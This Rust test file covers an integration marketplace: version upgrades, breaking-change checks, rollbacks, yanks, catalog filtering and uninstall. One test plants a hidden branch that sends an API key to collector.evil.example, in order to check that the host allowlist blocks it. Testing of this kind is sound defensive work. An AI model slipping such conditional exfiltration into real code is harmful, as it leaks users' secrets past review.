//! Installed copies over versions: a breaking change needs a major version, an upgrade needs the
//! new required values and keeps the others, a rollback of the action shows in the copy, a yank
//! flags it and stops new installs; an installed copy reaches only its `network.hosts`; a newer
//! version leaves it where it is, and an uninstall is a new revision of its flow. The catalog by
//! category, with what an install needs.

use super::{market_server, partner_and_reviewer, publish, submit, variant};
use crate::flows::ALL_SCOPES;
use crate::support::marketplace::{greeter, install_greeter, login, GREETER_CODE, PACKAGE};
use crate::support::{assert_error, Db};
use serde_json::{json, Value};

async fn upgrades_rollbacks_and_yanks(db: Db) {
    let (server, _registry) = market_server(&db).await;
    let (_, partner, reviewer) = partner_and_reviewer(&server).await;
    publish(&partner, &reviewer, &variant(|_| {}, |c| c)).await;

    // A new required value without a major bump: checks_failed, breaking_change.
    let breaking = variant(
        |m| {
            m["version"] = json!("1.1.0");
            m["configuration"].as_array_mut().unwrap().push(json!({
                "name": "REPLY_TO", "label": "Reply to", "required": true, "type": "string"}));
        },
        |c| {
            c.replace(
                "to: event.configuration.TO_ADDRESS,",
                "to: event.configuration.TO_ADDRESS, replyTo: event.configuration.REPLY_TO,",
            )
        },
    );
    let (_, failed) = submit(&partner, &breaking).await;
    assert_eq!(failed["state"], "checks_failed", "{failed}");
    assert!(failed["report"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["code"] == "breaking_change"));

    // The same as 2.0.0 passes; a tenant on 1.0.0 upgrading must give REPLY_TO (422 naming it).
    let major = variant(
        |m| {
            m["version"] = json!("2.0.0");
            m["configuration"].as_array_mut().unwrap().push(json!({
                "name": "REPLY_TO", "label": "Reply to", "required": true, "type": "string"}));
        },
        |c| {
            c.replace(
                "to: event.configuration.TO_ADDRESS,",
                "to: event.configuration.TO_ADDRESS, replyTo: event.configuration.REPLY_TO,",
            )
        },
    );
    let (_, v2) = submit(&partner, &major).await;
    assert_eq!(v2["state"], "in_review", "{v2}");
    let v2_id = v2["id"].as_str().unwrap();
    let (status, material) = reviewer
        .get(&format!("/v1/marketplace/submissions/{v2_id}/review"))
        .await;
    assert_eq!(status, 200);
    assert_eq!(
        material["breaking_changes"],
        json!(["new required configuration REPLY_TO"])
    );
    assert!(material["code_diff"]
        .as_str()
        .unwrap()
        .contains("+    to: event.configuration.TO_ADDRESS, replyTo"));
    reviewer
        .post(
            &format!("/v1/marketplace/submissions/{v2_id}/review"),
            json!({"decision": "approve"}),
        )
        .await;

    let (_, acme) = server.tenant("acme", ALL_SCOPES).await;
    let install = json!({
        "integration": "ses-welcome-email", "version": "1.0.0",
        "secrets": {"AWS_SES_KEY": "AKIAEXAMPLE", "AWS_SES_SECRET": "s3cr3t-value"},
        "configuration": {"FROM_ADDRESS": "a@example.com", "TO_ADDRESS": "b@example.com"},
    });
    let (status, installed) = acme.post("/v1/integrations/installed", install).await;
    assert_eq!(status, 201, "{installed}");
    let path = format!(
        "/v1/integrations/installed/{}",
        installed["id"].as_str().unwrap()
    );
    let refused = acme.patch(&path, json!({"version": "2.0.0"})).await;
    assert_error(&refused, 422, "invalid_value", "configuration.REPLY_TO");
    let (status, upgraded) = acme
        .patch(
            &path,
            json!({"version": "2.0.0", "configuration": {"REPLY_TO": "c@example.com"}}),
        )
        .await;
    assert_eq!(status, 200, "{upgraded}");
    assert_eq!(upgraded["version"], "2.0.0");
    assert_eq!(
        upgraded["configuration"]["FROM_ADDRESS"], "a@example.com",
        "values are kept"
    );
    let action = upgraded["action_id"].as_str().unwrap();
    let (_, versions) = acme.get(&format!("/v1/actions/{action}/versions")).await;
    assert_eq!(
        versions["total"], 2,
        "every upgrade is a new action version: {versions}"
    );
    assert_eq!(upgraded["running_version"], "2.0.0");
    // Rolled back like any action: the copy says it runs 1.0.0 again; forward to 2.0.0 again.
    for (number, running) in [(1, "1.0.0"), (2, "2.0.0")] {
        let rollback = format!("/v1/actions/{action}/versions/{number}/deploy");
        let (status, rolled) = acme.post(&rollback, json!({})).await;
        assert_eq!(status, 201, "{rolled}");
        let (_, now) = acme.get(&path).await;
        assert_eq!(
            (now["version"].as_str(), now["running_version"].as_str()),
            (Some("2.0.0"), Some(running))
        );
    }

    // Yanked: no new installs, the installed copy is flagged.
    let (status, _) = partner
        .post(
            &format!("/v1/marketplace/submissions/{v2_id}/flags"),
            json!({"yanked": true}),
        )
        .await;
    assert_eq!(status, 200);
    let (_, flagged) = acme.get(&path).await;
    assert_eq!(flagged["yanked"], true, "{flagged}");
    let refused = acme
        .post(
            "/v1/integrations/installed",
            json!({"integration": "ses-welcome-email", "version": "2.0.0", "name": "again"}),
        )
        .await;
    assert_error(&refused, 422, "invalid_value", "version");
    assert!(!acme.all_responses().contains("s3cr3t-value"));
}

on_both_backends!(upgrades_rollbacks_and_yanks);

/// An installed copy reaches only its `network.hosts`, over HTTP: its code fetches another host
/// on a branch its own tests never take, so the checks pass; a dispatch that takes the branch
/// fails with the wrapper's refusal, and one that does not still completes.
async fn an_installed_copy_reaches_only_its_declared_hosts(db: Db) {
    let (server, _registry) = market_server(&db).await;
    let (_, partner, reviewer) = partner_and_reviewer(&server).await;
    let code = GREETER_CODE.replace(
        "{\n",
        "{\n  if (event.user.user_id === \"exfiltrate\") {\n    \
         await fetch(\"https://collector.evil.example/x?key=\" + event.secrets.API_KEY);\n  }\n",
    );
    assert_ne!(code, GREETER_CODE);
    let id = publish(&partner, &reviewer, &greeter(|_| {}, &code)).await;
    let (_, published) = partner
        .get(&format!("/v1/marketplace/submissions/{id}"))
        .await;
    assert_eq!(published["report"], json!([]), "{published}");

    let (_, acme) = server.tenant("acme", ALL_SCOPES).await;
    install_greeter(&acme, "1.0.0").await;
    let flow = login(&acme, "u1").await;
    assert_eq!(flow["status"], "completed", "{flow}");
    let flow = login(&acme, "exfiltrate").await;
    assert_eq!(flow["status"], "failed", "{flow}");
    assert_eq!(flow["effects"], json!([]), "{flow}");
    let message = flow["results"][0]["error"]["message"].as_str().unwrap();
    assert!(
        message.contains(
            "fetch to collector.evil.example is not allowed: the integration's network.hosts \
             are api.example.com"
        ),
        "{flow}"
    );
    assert!(!acme.all_responses().contains("acme-key"));
}

on_both_backends!(an_installed_copy_reaches_only_its_declared_hosts);

/// The catalog filtered by category, an integration's detail with the values an install needs;
/// a newer version leaves an installed copy where it is; an uninstall is a new revision of the
/// flow it was in.
async fn catalog_versions_and_uninstall(db: Db) {
    let (server, _registry) = market_server(&db).await;
    let (_, partner, reviewer) = partner_and_reviewer(&server).await;
    // greeter: categories ["identity"], post-login; the SES email: ["notifications", "email"].
    // Each version of greeter logs its number.
    let code = |version: &str| {
        GREETER_CODE.replace(
            "{\n",
            &format!("{{\n  console.log(\"greeter {version}\");\n"),
        )
    };
    publish(&partner, &reviewer, &greeter(|_| {}, &code("1.0.0"))).await;
    publish(&partner, &reviewer, &variant(|_| {}, |c| c)).await;
    let (_, acme) = server.tenant("acme", ALL_SCOPES).await;

    for (query, slugs) in [
        ("", &["greeter", "ses-welcome-email"][..]),
        ("?category=identity", &["greeter"]),
        ("?category=email", &["ses-welcome-email"]),
        ("?category=EMAIL", &["ses-welcome-email"]),
        ("?category=nothing", &[]),
        ("?category=email&trigger=post-login", &[]),
        ("?category=identity&trigger=post-login", &["greeter"]),
    ] {
        let (status, catalog) = acme
            .get(&format!("/v1/marketplace/integrations{query}"))
            .await;
        assert_eq!(status, 200, "{catalog}");
        let found: Vec<&str> = catalog["integrations"]
            .as_array()
            .unwrap()
            .iter()
            .map(|i| i["slug"].as_str().unwrap())
            .collect();
        assert_eq!(found, slugs, "{query}: {catalog}");
    }

    // The detail has what the install form needs: the manifest's secrets and configuration.
    let manifest: Value =
        serde_json::from_slice(&std::fs::read(format!("{PACKAGE}/integration.json")).unwrap())
            .unwrap();
    let (status, detail) = acme
        .get("/v1/marketplace/integrations/ses-welcome-email")
        .await;
    assert_eq!(status, 200, "{detail}");
    assert_eq!(detail["secrets"], manifest["secrets"], "{detail}");
    assert_eq!(
        detail["configuration"], manifest["configuration"],
        "{detail}"
    );
    assert_eq!(detail["configuration"][2]["default_value"], "us-east-1");
    assert_eq!(detail["configuration"][3]["type"], "url");

    // 1.1.0 is published; the copy installed at 1.0.0 stays there and runs 1.0.0's code.
    let installed = install_greeter(&acme, "1.0.0").await;
    let path = format!(
        "/v1/integrations/installed/{}",
        installed["id"].as_str().unwrap()
    );
    let action = installed["action_id"].as_str().unwrap();
    publish(
        &partner,
        &reviewer,
        &greeter(|m| m["version"] = json!("1.1.0"), &code("1.1.0")),
    )
    .await;
    let (_, detail) = acme.get("/v1/marketplace/integrations/greeter").await;
    assert_eq!(detail["version"], "1.1.0", "{detail}");
    let (_, copy) = acme.get(&path).await;
    assert_eq!(
        (copy["version"].as_str(), copy["running_version"].as_str()),
        (Some("1.0.0"), Some("1.0.0")),
        "{copy}"
    );
    let (_, versions) = acme.get(&format!("/v1/actions/{action}/versions")).await;
    assert_eq!(versions["total"], 1, "{versions}");
    let flow = login(&acme, "u1").await;
    assert_eq!(flow["status"], "completed", "{flow}");
    assert_eq!(
        flow["results"][0]["logs"][0]["message"], "greeter 1.0.0",
        "{flow}"
    );

    // Uninstall: the flow gets a new revision without it.
    let (_, before) = acme.get("/v1/triggers/post-login/bindings").await;
    assert_eq!(before["bindings"][0]["action_id"], action, "{before}");
    let revision = before["revision"].as_i64().unwrap();
    let (status, _) = acme.delete(&path).await;
    assert_eq!(status, 204);
    let (_, after) = acme.get("/v1/triggers/post-login/bindings").await;
    assert_eq!(after["bindings"], json!([]), "{after}");
    assert_eq!(after["revision"].as_i64(), Some(revision + 1), "{after}");
    let (_, revisions) = acme.get("/v1/triggers/post-login/bindings/revisions").await;
    let numbered: Vec<(i64, usize)> = revisions["revisions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["number"].as_i64().unwrap(),
                r["bindings"].as_array().unwrap().len(),
            )
        })
        .take(2)
        .collect();
    assert_eq!(numbered, [(revision + 1, 0), (revision, 1)], "{revisions}");
    let (_, list) = acme.get("/v1/integrations/installed").await;
    assert_eq!(list["installed"], json!([]), "{list}");
}

on_both_backends!(catalog_versions_and_uninstall);
